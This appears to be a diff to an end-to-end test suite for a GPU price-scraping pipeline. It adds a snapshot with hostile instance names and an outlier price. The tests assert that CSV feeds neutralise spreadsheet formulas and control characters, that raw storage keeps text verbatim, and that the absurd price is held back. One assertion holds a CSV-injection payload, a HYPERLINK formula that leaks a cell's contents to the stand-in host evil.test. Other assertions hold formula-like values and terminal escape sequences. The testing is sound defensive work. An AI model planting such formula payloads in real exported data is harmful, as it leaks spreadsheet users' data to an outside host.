@@ -1,14 +1,16 @@
 """Hostile input: scraped text that carries SQL, HTML/JavaScript, control characters, a 1 MB
 string and foreign encodings, through the whole pipeline (`gpuprices run`, subprocess).
 
-One run over modified copies of four snapshots:
+One run over modified copies of five snapshots:
   idc_nanjing    extra table rows whose text is hostile (the rest of the page as recorded)
   azure          page 3 with hostile skuName / location, and one item with a hostile region
   idc_sinnet_bj  the page re-encoded in GBK, declared only by <meta charset="gbk">
   idc_ulanqab    declared UTF-8, with one cell written in GBK bytes (mixed encodings)
+  tencent_cn     instances named like spreadsheet formulas or full of controls, and an absurdly
+                 cheap A100 80GB (tests/helpers/hostile_cells.py)
 Nothing is executed or crashes: hostile rows land with their text stored verbatim (or are
-quarantined with a reason), the tables stay whole, the feeds parse, the raw archive keeps the
-original bytes.
+quarantined with a reason), the tables stay whole, the feeds parse, the CSV feeds are safe for a
+spreadsheet, the raw archive keeps the original bytes, the absurd price is held back.
 """
 
 from __future__ import annotations
@@ -30,6 +32,7 @@ import pytest
 
 from spiders.layout import REPO_ROOT, SNAPSHOT_DIR
 from spiders.registry import spider_class
+from tests.helpers import hostile_cells as cells
 from tests.helpers.responses import file_response
 
 pytestmark = pytest.mark.e2e
@@ -121,6 +124,7 @@ def build_snapshots(copy: Path) -> dict[str, bytes]:
              + utf8.split("</tbody>", 1)[1].encode("utf-8"))
     written["idc_ulanqab"] = mixed
     page.write_bytes(mixed)
+    written["tencent_cn"] = cells.build_tencent(copy)
     return written
 
 
@@ -290,18 +294,50 @@ def test_mixed_encoding_page_keeps_its_good_rows(hostile_run):
     assert foreign.startswith("NVIDIA A100 40G PCIe \ufffd") and "特惠" not in foreign
 
 
-def test_feeds_parse_and_carry_the_text_verbatim(hostile_run):
-    feed = hostile_run["data_dir"] / "feeds" / "latest_prices.csv"
-    csv.field_size_limit(sys.maxsize)                     # one cell holds the 1 MB string
-    with feed.open(encoding="utf-8", newline="") as fh:
+def test_csv_feeds_parse_and_are_safe_for_spreadsheets(hostile_run):
+    feeds = hostile_run["data_dir"] / "feeds"
+    csv.field_size_limit(sys.maxsize)
+    with (feeds / "latest_prices.csv").open(encoding="utf-8", newline="") as fh:
         rows = list(csv.DictReader(fh))
     [(offers,)] = q(hostile_run, "select count(*) from marts.latest_prices")
     assert len(rows) == offers
     skus = {r["sku"] for r in rows}
     for name, text in HOSTILE_TEXTS.items():
-        assert f"NVIDIA A100 80G SXM4 整卡 {text} | 1" in skus, name
-    raw = feed.read_text(encoding="utf-8")
+        if name not in ("control", "one_mb"):
+            assert f"NVIDIA A100 80G SXM4 整卡 {text} | 1" in skus, name
+    assert "NVIDIA A100 80G SXM4 整卡 \ufffd[31m红色\ufffd反向 | 1" in skus
+    assert "'=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"GT4\")" in skus
+    assert {"'-2+3", "' =1+1", "'\uff1d3+3", "GT4\ufffd\ufffd[2J\ufffdevil\ufffd"} <= skus
+    raw = (feeds / "latest_prices.csv").read_text(encoding="utf-8")
     assert '"NVIDIA A100 80G SXM4 整卡 ""特价"", 限时 | 1"' in raw    # quoted, quotes doubled
+    # every cell of every CSV feed: none a formula, none with controls, none over the limit
+    assert cells.unsafe_cells(cells.csv_cells(feeds)) == {"formula": 0, "control": 0,
+                                                          "over_limit": 0}
+
+
+def test_parquet_feeds_and_the_database_keep_the_text_as_scraped(hostile_run):
+    feeds = hostile_run["data_dir"] / "feeds"
+    stored = cells.unsafe_cells(cells.parquet_text_cells(feeds))   # what the CSV had, unmade
+    assert stored["formula"] >= 2 * len(cells.FORMULA_SKUS)   # latest_prices, cheapest_offers
+    assert stored["control"] >= 2 and stored["over_limit"] >= 2
+    hostile = {*(f"NVIDIA A100 80G SXM4 整卡 {t} | 1" for t in HOSTILE_TEXTS.values()),
+               *cells.FORMULA_SKUS, cells.CONTROL_SKU}
+    for table in (f"'{feeds / 'latest_prices.parquet'}'", "marts.latest_prices"):
+        assert hostile <= {s for (s,) in q(hostile_run, f"select sku from {table}")}, table
+
+
+def test_an_absurd_price_is_held_back_from_cheapest_offers_and_alerts(hostile_run):
+    [(status, vendors, factor)] = q(hostile_run, "select outlier_status, vendors_compared, "
+                                    "times_card_median from price_outliers where sku = ?",
+                                    [cells.OUTLIER_SKU])
+    assert status == "held" and vendors >= 3 and factor < 1 / 8
+    assert not q(hostile_run, "select 1 from cheapest_offers where sku = ?", [cells.OUTLIER_SKU])
+    assert q(hostile_run, "select count(*) from price_outliers where outlier_status <> 'ok'") == \
+        [(1,)]                                   # the hostile texts' real prices are no outliers
+    page = (hostile_run["data_dir"] / "report" / "index.html").read_text(encoding="utf-8")
+    assert cells.OUTLIER_SKU in page[page.index('<h3 id="outliers">'):]
+    # the watch list (A100 80GB in Nanjing at 40 or less) matches it, but waits for a 2nd crawl
+    assert cells.OUTLIER_SKU not in "\n".join(a["message"] for a in hostile_run["alerts"])
 
 
 def test_raw_archive_keeps_the_original_bytes(hostile_run):
